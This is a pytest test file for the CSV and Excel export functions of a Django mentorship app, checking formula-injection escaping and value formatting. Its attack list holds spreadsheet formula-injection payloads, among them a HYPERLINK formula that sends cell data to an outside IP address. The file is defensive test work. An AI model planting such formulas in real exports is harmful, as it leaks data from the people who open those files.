import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from mentorship.common.exports import csv_bytes, looks_like_formula, xlsx_bytes

ATTACKS = [
    '=HYPERLINK("http://198.51.100.1/?"&A1,"Ведомость")',
    "=1+1",
    "+7 900 000-00-00",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "#N/A",
    "=",
]


def open_sheet(content):
    return openpyxl.load_workbook(io.BytesIO(content)).active


def read_csv(content):
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_becomes_a_formula_in_xlsx(attack):
    sheet = open_sheet(xlsx_bytes("Люди", [attack], [[attack]]))
    for cell in (sheet["A1"], sheet["A2"]):
        assert cell.data_type == "s"
        assert cell.value.replace("\r", "\n") == attack.replace("\r", "\n")  # XML keeps no lone CR


@pytest.mark.parametrize("attack", [text for text in ATTACKS if text != "#N/A"])
def test_no_text_becomes_a_formula_in_csv(attack):
    assert read_csv(csv_bytes([attack], [[attack]])) == [[f"'{attack}"], [f"'{attack}"]]


@pytest.mark.parametrize("text", ["Петрова", "д/с № 3", "8 (863) 200", "а=б", "", "'"])
def test_ordinary_text_is_left_alone(text):
    assert not looks_like_formula(text)
    assert read_csv(csv_bytes(["x"], [[text]]))[1] == [text]


def test_values_keep_their_kinds_in_xlsx():
    moment = datetime(2026, 9, 1, 7, 30, tzinfo=UTC)
    row = ["007", 5, Decimal("4.5"), date(2026, 9, 1), moment, True, False, None, ""]
    sheet = open_sheet(xlsx_bytes("Список", [f"c{n}" for n in range(9)], [row]))
    values = [cell.value for cell in sheet[2]]
    assert values[0] == "007"
    assert values[1:3] == [5, 4.5]
    assert values[3] == datetime(2026, 9, 1)  # noqa: DTZ001
    assert sheet["D2"].number_format == "DD.MM.YYYY"
    assert values[4] == timezone.localtime(moment).replace(tzinfo=None)
    assert values[5:] == ["да", "нет", None, None]


def test_values_are_written_the_russian_way_in_csv():
    row = [date(2026, 9, 1), Decimal("4.5"), -3, True, None, 'ДОУ «Ручеёк»; "корпус 2"']
    assert read_csv(csv_bytes(list("abcdef"), [row]))[1] == [
        "01.09.2026",
        "4,5",
        "-3",
        "да",
        "",
        'ДОУ «Ручеёк»; "корпус 2"',
    ]


def test_the_sheet_is_ready_to_use():
    rows = [["Иванова Мария Петровна", "а" * 300], ["Ли Юн", "кратко"]]
    sheet = open_sheet(xlsx_bytes("Наставники: база [2026/2027]", ["ФИО", "О себе"], rows))
    assert sheet.title == "Наставники  база  2026 2027"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet["A1"].font.bold
    assert 22 <= sheet.column_dimensions["A"].width <= 30
    assert sheet.column_dimensions["B"].width == 60
    assert sheet["B2"].alignment.wrap_text


def test_characters_that_excel_refuses_are_dropped():
    sheet = open_sheet(xlsx_bytes("\x00", ["a\x0bb"], [["x\x00\x1fy\ud83d\uffffz"]]))
    assert sheet.title == "Список"
    assert (sheet["A1"].value, sheet["A2"].value) == ("ab", "xyz")
    assert read_csv(csv_bytes(["a"], [["x\x00\ud83dz"]]))[1] == ["xz"]


def test_a_text_above_the_limit_of_excel_is_cut():
    assert len(open_sheet(xlsx_bytes("Длинно", ["a"], [["я" * 40_000]]))["A2"].value) == 32_767


def test_an_empty_list_has_its_heading():
    sheet = open_sheet(xlsx_bytes("Пусто", ["ФИО", "Пол"], []))
    assert [cell.value for cell in sheet[1]] == ["ФИО", "Пол"]
    assert sheet.max_row == 1
    assert read_csv(csv_bytes(["ФИО"], [])) == [["ФИО"]]
